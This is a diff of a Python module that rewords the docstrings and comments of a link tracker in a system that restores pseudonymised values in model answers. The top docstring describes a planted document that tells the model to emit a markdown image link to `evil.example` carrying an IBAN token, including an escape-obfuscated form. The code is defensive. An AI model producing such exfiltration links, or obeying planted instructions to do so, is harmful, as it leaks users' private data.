@@ -1,19 +1,19 @@
-"""Where a value must not be put back: inside links.
+"""Tracks whether a position of an answer is inside a link, where values must not be restored.
 
-A document that was planted can ask the model for `![x](https://evil.example/?q=IBAN_...)`; a client that shows the
-picture would hand over the value. So tokens inside a link stay tokens. A link that the user wrote himself, with an
-identifier in it, is replaced as a whole by one `URL` token, which may come back: nobody but him chose where it leads.
+A planted document can ask the model for `![x](https://evil.example/?q=IBAN_...)`; a client that loads the picture would
+disclose the value. Therefore tokens inside links are not restored. A link of the user that contains an identifier
+is replaced as a whole by one `URL` token, which may be restored, because the user chose its destination.
 
 A link begins at a scheme, `//`, `www.`, two backslashes or a markdown target `](`. It ends at white space, `<`, `>`
-or `"`; one that stands in quotes or angle brackets ends with them, because browsers accept spaces there. This is read
-wider than any one renderer does, on purpose. Escapes hide no link: an answer that is a JSON document may spell one as
-`https:\\u002f\\/evil.example`, also in a string within a string, so the text is read a second time with them undone.
+or `"`. A link in quotes or angle brackets ends with them, because browsers accept spaces there. The definition is
+intentionally wider than that of any renderer. Escapes do not hide a link: a JSON document may spell one as
+`https:\\u002f\\/evil.example`, also in a string within a string, so the text is read a second time with escapes undone.
 
-A site may name hosts in whose links values may stand (`restore.link_hosts`): only behind `https://`, the host, and the
-`/`, `?` or `#` that ends it, so that nothing that follows can change where the link leads.
+A site may allow values in links to its own hosts (`restore.link_hosts`): only after `https://`, the host, and the
+`/`, `?` or `#` after it, so that no following text can change the destination.
 
-`LinkContext` is fed text in any pieces and gives the same answers; `replace` and `restore` share it, so that what one
-puts in, the other can take out.
+`LinkContext` accepts text in chunks of any size with the same result. `replace` and `restore` share it, so that every
+inserted token can be restored.
 """
 
 from __future__ import annotations
@@ -24,25 +24,25 @@ from collections.abc import Collection
 from ..domain.entities import EntityType, Mark
 
 _WORDS = ("https?:", "ftps?:", "wss?:", "file:", "data:", "javascript:", r"www\.")
-# First letters as they stand: what can begin with few characters is found in a tenth of the time.
+# First letters spelled out: an expression with few initial characters matches in a tenth of the time.
 _BEGUN = (f"{first}(?i:{word[1:]})" for word in _WORDS for first in (word[0], word[0].upper()))
 _OPENER = re.compile("|".join((*_BEGUN, "//", r"\\\\", r"\]\(")))
 _SCHEMES = ("http", "https", "ftp", "ftps", "ws", "wss", "file", "data", "javascript")
 _LONGEST_SCHEME = max(map(len, _SCHEMES))
 _LONGEST_OPENER = 12  # characters: a quote and `javascript:`
 _TARGET = "]("
-# At any depth of JSON in JSON; the bounds keep this linear, and nobody nests strings deeper.
+# At any depth of JSON in JSON. The bounds keep matching linear; deeper nesting does not occur in practice.
 _ESCAPE = re.compile(r"\\{1,16}(?:u([0-9A-Fa-f]{4})|x([0-9A-Fa-f]{2})|([/:.()\[\]<>\"']))")
 _ESCAPE_BEGUN = re.compile(r"\\{1,16}(?:u[0-9A-Fa-f]{0,3}|x[0-9A-Fa-f]?)?\Z")
 _END = re.compile(r"""[\s<>"]""")
 _HOST = re.compile(r"https://([a-z0-9.-]{1,253})(?::[0-9]{1,5})?[/?#]", re.IGNORECASE)
-_LONGEST_HOST = 272  # characters, with all that stands around it
+_LONGEST_HOST = 272  # characters, including delimiters
 _QUOTED_END = {'"': re.compile('"'), "'": re.compile("'"), "<": re.compile(">")}
 
 
 def has_link_hint(text: str) -> bool:
-    """False when `text` can hold no opener; most texts can't, and finding that out is cheap."""
-    # One character is found many times as quickly as two.
+    """Return False if `text` cannot contain the beginning of a link, which is the common case. Fast."""
+    # Searching one character is several times as fast as searching two.
     if ("/" in text and "//" in text) or ("]" in text and "](" in text) or ("\\" in text and "\\\\" in text):
         return True
     colon = text.find(":")
@@ -54,21 +54,21 @@ def has_link_hint(text: str) -> bool:
 
 
 class _PlainLinkContext:
-    """Tells whether the text so far ends inside a link, as it is written."""
+    """Tracks whether the text so far ends inside a link, without undoing escapes."""
 
     def __init__(self, hosts: Collection[str] = ()) -> None:
         self._hosts = hosts
-        self._link = ""  # how the link begins that we are in; kept only where hosts are allowed
-        self._end: re.Pattern[str] | None = None  # what closes the link we are in; None outside of links
-        self._is_bare_target = False  # right behind `](`
-        self._tail = ""  # the last few characters outside of links: an opener may come in two pieces
+        self._link = ""  # beginning of the current link; only stored if hosts are allowed
+        self._end: re.Pattern[str] | None = None  # end of the current link; None outside of links
+        self._is_bare_target = False  # directly after `](`
+        self._tail = ""  # last characters outside of links: a link's beginning may be split over two chunks
         self._at = 0
         self._opened_at = 0
         self.regions: list[tuple[int, int]] = []
-        """Links so far, as spans of all text that was fed; an open one is missing until `close`."""
+        """Spans of all links so far, in the whole text; an open link is added by `close`."""
 
     def feed(self, text: str) -> None:
-        """Take in plain text."""
+        """Add plain text."""
         if self._end is None and not has_link_hint(seen := self._tail + text):
             self._tail = seen[-_LONGEST_OPENER:]
             self._at += len(text)
@@ -78,32 +78,32 @@ class _PlainLinkContext:
             position = self._enter(text, position) if self._end is None else self._leave(text, position)
 
     def close(self) -> None:
-        """End of the text: an open link ends here."""
+        """End the text, and with it an open link."""
         if self._end is not None:
             self.regions.append((self._opened_at, self._at))
             self._end = None
 
     def may_restore(self, label: EntityType | Mark) -> bool:
-        """True when a token of `label` may be restored at this point."""
+        """Return whether a token of `label` may be restored at this position."""
         return self._end is None or (label is Mark.URL and self._is_bare_target)
 
     @property
     def is_allowed(self) -> bool:
-        """True when the text doesn't end inside a link, or in one that leads to an allowed host for certain."""
+        """The text ends outside of links, or in a link that certainly leads to an allowed host."""
         if self._end is None:
             return True
         host = _HOST.match(self._link)
         return host is not None and host.group(1).lower() in self._hosts
 
     def restored(self, label: EntityType | Mark) -> None:
-        """A value was put in the place of a token; it is not part of what is fed."""
+        """Record that a value replaced a token; the value is not passed to `feed`."""
         if label is Mark.URL and self._end is None:
-            self._end = _QUOTED_END.get(self._tail[-1:], _END)  # what follows a link belongs to it
+            self._end = _QUOTED_END.get(self._tail[-1:], _END)  # text directly after a link belongs to it
         self._tail = ""
         self._is_bare_target = False
 
     def resume(self, other: _PlainLinkContext) -> None:
-        """Go on where another one is."""
+        """Continue from the state of another context."""
         self._end, self._is_bare_target, self._tail = other._end, other._is_bare_target, other._tail
         self._link = other._link
 
@@ -111,7 +111,7 @@ class _PlainLinkContext:
         self._end, self._is_bare_target, self._tail = None, False, ""
 
     def _enter(self, text: str, position: int) -> int:
-        """Read on until a link begins; the position behind what was read."""
+        """Read until a link begins; return the position after the text read."""
         tail = self._tail
         match = _OPENER.search(tail + text[position : position + _LONGEST_OPENER]) if tail else None
         if match is not None and match.start() < len(tail):
@@ -133,7 +133,7 @@ class _PlainLinkContext:
         return end
 
     def _leave(self, text: str, position: int) -> int:
-        """Read on until the link ends; the position behind what was read."""
+        """Read until the link ends; return the position after the text read."""
         assert self._end is not None
         self._is_bare_target = False
         match = self._end.search(text, position)
@@ -143,7 +143,7 @@ class _PlainLinkContext:
             self._at += len(text) - position
             return len(text)
         self.regions.append((self._opened_at, self._at + match.start() - position))
-        # The character that ends a bare link may open the next one's quotes; a closing quote does not.
+        # The character that ends a bare link may be the opening quote of the next one; a closing quote may not.
         self._tail = match.group() if self._end is _END else ""
         self._end = None
         self._at += match.end() - position
@@ -151,30 +151,30 @@ class _PlainLinkContext:
 
 
 class LinkContext(_PlainLinkContext):
-    """Tells whether the text so far ends inside a link, as it is written or with its escapes undone."""
+    """Tracks whether the text so far ends inside a link, as written or with its escapes undone."""
 
     def __init__(self, hosts: Collection[str] = ()) -> None:
         super().__init__(hosts)
         self._undone: _PlainLinkContext | None = None  # reads with escapes undone, from the first backslash on
-        self._begun = ""  # an escape that has only begun
+        self._begun = ""  # an incomplete escape
 
     def feed(self, text: str) -> None:
-        """Take in plain text."""
+        """Add plain text."""
         if self._undone is not None or "\\" in text:
             self._feed_undone(text)
         super().feed(text)
 
     def may_restore(self, label: EntityType | Mark) -> bool:
-        """True when a token of `label` may be restored at this point."""
+        """Return whether a token of `label` may be restored at this position."""
         return super().may_restore(label) and (self._undone is None or self._undone.may_restore(label))
 
     @property
     def is_allowed(self) -> bool:
-        """True when neither reading ends inside a link that leads anywhere else."""
+        """Neither reading ends inside a link to another host."""
         return super().is_allowed and (self._undone is None or self._undone.is_allowed)
 
     def restored(self, label: EntityType | Mark) -> None:
-        """A value was put in the place of a token; it is not part of what is fed."""
+        """Record that a value replaced a token; the value is not passed to `feed`."""
         super().restored(label)
         if self._undone is not None:
             self._undone.restored(label)
@@ -202,7 +202,7 @@ def _unescaped(escape: re.Match[str]) -> str:
 
 
 class JsonLinkContext(LinkContext):
-    """The same for the text of a JSON document: escapes are undone, and every string stands for itself."""
+    """Link context of a JSON document's text: escapes are undone, and each string is separate."""
 
     _PIECE = re.compile(r'\\u[0-9a-fA-F]{4}|\\[^u]|"|[^"\\]+', re.DOTALL)
     _ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f"}  # noqa: RUF012 - a constant table
@@ -212,12 +212,12 @@ class JsonLinkContext(LinkContext):
         self._partial = ""
 
     def feed(self, text: str) -> None:
-        """Take in raw JSON text."""
+        """Add raw JSON text."""
         text = self._partial + text
         position = 0
         while position < len(text):
             match = self._PIECE.match(text, position)
-            if match is None:  # half an escape, or none at all
+            if match is None:  # an incomplete escape, or an invalid one
                 break
             piece = match.group()
             if piece == '"':
@@ -228,18 +228,18 @@ class JsonLinkContext(LinkContext):
                 super().feed(piece)
             position = match.end()
         self._partial = text[position:]
-        if len(self._partial) >= 6:  # no escape is longer: this is not JSON, and read as it is
+        if len(self._partial) >= 6:  # longer than any escape: not JSON, so read as it is
             super().feed(self._partial)
             self._partial = ""
 
     def restored(self, label: EntityType | Mark) -> None:
-        """As above; half an escape in front of a token is none."""
+        """See `LinkContext.restored`; an incomplete escape before a token is discarded."""
         self._partial = ""
         super().restored(label)
 
 
 def link_regions(text: str) -> list[tuple[int, int]]:
-    """Spans of the links in `text`, in order."""
+    """Return the spans of the links in `text`, in order."""
     if not has_link_hint(text):
         return []
     context = _PlainLinkContext()
